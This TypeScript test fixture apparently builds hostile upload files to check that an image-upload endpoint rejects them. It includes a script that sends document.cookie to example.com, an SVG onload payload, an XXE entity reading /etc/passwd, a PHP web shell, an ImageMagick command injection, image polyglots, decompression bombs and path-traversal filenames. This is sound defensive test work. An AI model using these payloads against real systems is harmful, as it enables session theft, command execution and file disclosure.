import sharp from "sharp";
import { pngHeader, withPngText } from "@/lib/images/png-bytes";
import { samplePhoto, withSegments } from "@/lib/images/sample-photos";
import { MAX_IMAGE_BYTES } from "@/lib/images/schema";

// Two hundred files that somebody might send instead of a photograph of a car, for tests.

export type HostileFile = {
  kind: string;
  fileName: string;
  type: string;
  bytes: Buffer;
  /** What it is answered with. */
  status: 400 | 413 | 415;
};

const SCRIPT = '<script>fetch("//example.com/?"+document.cookie)</script>';
const TYPES = [
  ["photo.jpg", "image/jpeg"],
  ["photo.png", "image/png"],
  ["photo.webp", "image/webp"],
  ["photo.svg", "image/svg+xml"],
] as const;

/** Every hostile file; which kinds there are is told by `kind`. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const photos = {
    jpeg: await samplePhoto(),
    png: await samplePhoto({ format: "png" }),
    webp: await samplePhoto({ format: "webp" }),
  };
  return [
    ...notPictures(),
    ...wrongMagic(photos),
    ...polyglots(photos),
    ...truncated(photos),
    ...damaged(photos),
    ...(await bombs()),
    ...oddNames(photos.jpeg),
    ...wrongSizes(photos.jpeg),
  ];
}

type Photos = Record<"jpeg" | "png" | "webp", Buffer>;

function notPictures(): HostileFile[] {
  const texts = {
    svg: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect width="9" height="9"/></svg>`,
    "svg with a prologue": `<?xml version="1.0"?><!DOCTYPE svg><svg xmlns="http://www.w3.org/2000/svg">${SCRIPT}</svg>`,
    "svg with entities": `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>`,
    html: `<!doctype html><html><body>${SCRIPT}</body></html>`,
    script: `alert(document.domain)`,
    php: `<?php system($_GET["c"]); ?>`,
    pdf: "%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj",
    "magick script": "push graphic-context\nfill 'url(https://example.com/|id)'\npop graphic-context",
    spaces: " ".repeat(4_000),
    zeros: "\0".repeat(4_000),
  };
  return Object.entries(texts).flatMap(([kind, text]) =>
    TYPES.map(([fileName, type]) => ({
      kind,
      fileName,
      type,
      bytes: Buffer.from(text),
      status: 415 as const,
    })),
  );
}

const MAGIC = {
  gif: Buffer.from(
    "GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;",
    "latin1",
  ),
  bmp: Buffer.from("BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0", "latin1"),
  tiff: Buffer.from("II*\0\x08\0\0\0\0\0", "latin1"),
  ico: Buffer.from([0, 0, 1, 0, 1, 0, 16, 16]),
  heic: Buffer.from("\0\0\0\x18ftypheic\0\0\0\0mif1heic", "latin1"),
  avif: Buffer.from("\0\0\0\x18ftypavif\0\0\0\0mif1avif", "latin1"),
  program: Buffer.from("\x7fELF\x02\x01\x01\0", "latin1"),
  archive: Buffer.from("PK\x03\x04\x14\0\0\0", "latin1"),
  psd: Buffer.from("8BPS\0\x01\0\0", "latin1"),
  jp2: Buffer.from("\0\0\0\x0cjP  \r\n\x87\n", "latin1"),
  jxl: Buffer.from("\0\0\0\x0cJXL \r\n\x87\n", "latin1"),
  video: Buffer.from("\0\0\0\x18ftypmp42\0\0\0\0", "latin1"),
  wav: Buffer.from("RIFF\x24\0\0\0WAVEfmt ", "latin1"),
};

function wrongMagic({ jpeg, png }: Photos): HostileFile[] {
  const others = Object.entries(MAGIC).flatMap(([kind, magic]) =>
    TYPES.slice(0, 3).map(([fileName, type]) => ({
      kind,
      fileName,
      type,
      bytes: Buffer.concat([magic, Buffer.alloc(500, 7)]),
      status: 415 as const,
    })),
  );
  const shifted = [1, 2, 3, 8].map((by) => ({
    kind: "a photograph after other bytes",
    fileName: "photo.jpg",
    type: "image/jpeg",
    bytes: Buffer.concat([Buffer.alloc(by, 0x20), by % 2 ? jpeg : png]),
    status: 415 as const,
  }));
  const magicOnly = [
    ["jpeg", Buffer.from([0xff, 0xd8, 0xff])],
    ["jpeg", Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0]), Buffer.alloc(900, 0x41)])],
    ["png", png.subarray(0, 8)],
    ["png", Buffer.concat([png.subarray(0, 8), Buffer.alloc(900, 0x41)])],
    ["webp", Buffer.from("RIFF\x04\0\0\0WEBP", "latin1")],
    ["webp", Buffer.from(`RIFF\xff\xff\xff\x7fWEBPVP8 ${"A".repeat(900)}`, "latin1")],
    ["jpeg", Buffer.concat([jpeg.subarray(0, 4), png.subarray(8)])],
    ["png", Buffer.concat([png.subarray(0, 8), jpeg])],
  ] as const;
  return [
    ...others,
    ...shifted,
    ...magicOnly.map(([kind, bytes]) => ({
      kind: `${kind} magic without a picture`,
      fileName: `photo.${kind}`,
      type: `image/${kind}`,
      bytes,
      status: 400 as const,
    })),
  ];
}

/** An archive with one empty name in it: 22 bytes of directory end are all that a ZIP needs. */
const zip = (comment = "") => {
  const end = Buffer.alloc(22);
  end.write("PK\x05\x06", 0, "latin1");
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([end, Buffer.from(comment)]);
};

function polyglots({ jpeg, png, webp }: Photos): HostileFile[] {
  const payloads = {
    html: Buffer.from(`<!doctype html><html><body>${SCRIPT}`),
    script: Buffer.from(`\n${SCRIPT.toUpperCase()}`),
    svg: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'),
    php: Buffer.from("<?php system('id'); __halt_compiler();"),
    pdf: Buffer.from("%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>"),
    zip: zip(),
    "zip with a comment": zip("PK of our own"),
    frame: Buffer.from('<iframe src="//example.com">'),
    shell: Buffer.from("\n#!/bin/sh\nid\n"),
  };
  return Object.entries(payloads).flatMap(([payload, content]) => {
    const pairs: [string, string, Buffer][] = [
      ["image/jpeg", "after the end", Buffer.concat([jpeg, content])],
      ["image/png", "after the end", Buffer.concat([png, content])],
      ["image/webp", "after the end", Buffer.concat([webp, content])],
    ];
    if (!payload.startsWith("zip")) {
      pairs.push(["image/jpeg", "in a comment", withSegments(jpeg, [0xfe, content])]);
      pairs.push(["image/png", "in a text chunk", withPngText(png, content)]);
    }
    return pairs.map(([type, where, bytes]) => ({
      kind: `polyglot: ${payload} ${where}`,
      fileName: payload === "html" ? "photo.html" : `photo.${type.slice(6)}`,
      type: payload === "html" ? "text/html" : type,
      bytes,
      status: 415 as const,
    }));
  });
}

function truncated(photos: Photos): HostileFile[] {
  return Object.entries(photos).flatMap(([format, bytes]) =>
    [0.02, 0.1, 0.25, 0.4, 0.5, 0.6, 0.75, 0.9, 0.97, 0.999].map((part) => ({
      kind: `${format} cut off after ${part * 100} %`,
      fileName: `photo.${format}`,
      type: `image/${format}`,
      bytes: bytes.subarray(0, Math.floor(bytes.length * part)),
      status: 400 as const,
    })),
  );
}

function damaged({ png, webp }: Photos): HostileFile[] {
  const wrong = (bytes: Buffer, at: number) => {
    const copy = Buffer.from(bytes);
    for (let index = at; index < Math.min(at + 40, copy.length); index += 1)
      copy[index] = 0xff ^ (copy[index] ?? 0);
    return copy;
  };
  const files: [string, Buffer][] = [
    ["png", wrong(png, 8)],
    ["png", wrong(png, 16)],
    ["png", pngHeader(0, 0)],
    ["png", pngHeader(10, 0)],
    ["webp", wrong(webp, 12)],
    ["webp", wrong(webp, 16)],
  ];
  return files.map(([format, bytes]) => ({
    kind: `damaged ${format}`,
    fileName: `photo.${format}`,
    type: `image/${format}`,
    bytes,
    status: 400 as const,
  }));
}

/** Small files that unfold to more pixels than anybody's memory has room for. */
async function bombs(): Promise<HostileFile[]> {
  const blank = (width: number, height: number, channels: 3 | 4 = 3) =>
    sharp({ create: { width, height, channels, background: "#345" }, limitInputPixels: false });
  const files: [string, string, Buffer][] = [
    ["png of 51 megapixels", "png", await blank(8_250, 6_200).png().toBuffer()],
    ["png of 100 megapixels", "png", await blank(10_000, 10_000).png().toBuffer()],
    ["narrow png of 60 megapixels", "png", await blank(60, 1_000_000).png().toBuffer()],
    ["jpeg of 51 megapixels", "jpeg", await blank(8_250, 6_200).jpeg().toBuffer()],
    [
      "progressive jpeg of 39 megapixels",
      "jpeg",
      await blank(7_200, 5_400).jpeg({ progressive: true }).toBuffer(),
    ],
    [
      "progressive jpeg of 60 megapixels",
      "jpeg",
      await blank(10_000, 6_000).jpeg({ progressive: true }).toBuffer(),
    ],
    ["webp of 51 megapixels", "webp", await blank(8_250, 6_200).webp({ effort: 0 }).toBuffer()],
    [
      "lossless webp of 51 megapixels",
      "webp",
      await blank(8_250, 6_200).webp({ lossless: true, effort: 0 }).toBuffer(),
    ],
    ["png that claims 2 gigapixels", "png", pngHeader(65_000, 32_000)],
    ["png that claims 4 exapixels", "png", pngHeader(0x7fffffff, 0x7fffffff)],
  ];
  return files.map(([kind, format, bytes]) => ({
    kind: `bomb: ${kind}`,
    fileName: `photo.${format}`,
    type: `image/${format}`,
    bytes,
    status: kind.includes("exapixels") ? 400 : 413,
  }));
}

const ODD_NAMES = [
  "../../../../etc/passwd",
  "..\\..\\windows\\win.ini",
  "/etc/cron.d/photo.jpg",
  "C:\\fakepath\\..\\photo.jpg",
  "....//....//photo.jpg",
  "photo.jpg/../../../app/page.tsx",
  "public/photo.jpg",
  ".",
  "..",
  "photo\u0000.jpg",
  "photo\u0007.jpg",
  "photo\u007f.jpg",
  `${"a".repeat(300)}.jpg`,
  "\\\\server\\share\\photo.jpg",
  "..\u002fphoto.jpg",
];

function oddNames(jpeg: Buffer): HostileFile[] {
  return ODD_NAMES.map((fileName) => ({
    kind: `name: ${JSON.stringify(fileName).slice(0, 40)}`,
    fileName,
    type: "image/jpeg",
    bytes: jpeg,
    status: 400 as const,
  }));
}

function wrongSizes(jpeg: Buffer): HostileFile[] {
  const padded = (size: number) => Buffer.concat([jpeg, Buffer.alloc(size - jpeg.length)]);
  return [
    ...TYPES.map(([fileName, type]) => ({
      kind: "empty",
      fileName,
      type,
      bytes: Buffer.alloc(0),
      status: 415 as const,
    })),
    ...[MAX_IMAGE_BYTES + 1, MAX_IMAGE_BYTES + 20_000, MAX_IMAGE_BYTES * 2, MAX_IMAGE_BYTES * 4].map(
      (size) => ({
        kind: `${size} bytes`,
        fileName: "photo.jpg",
        type: "image/jpeg",
        bytes: padded(size),
        status: 413 as const,
      }),
    ),
  ];
}
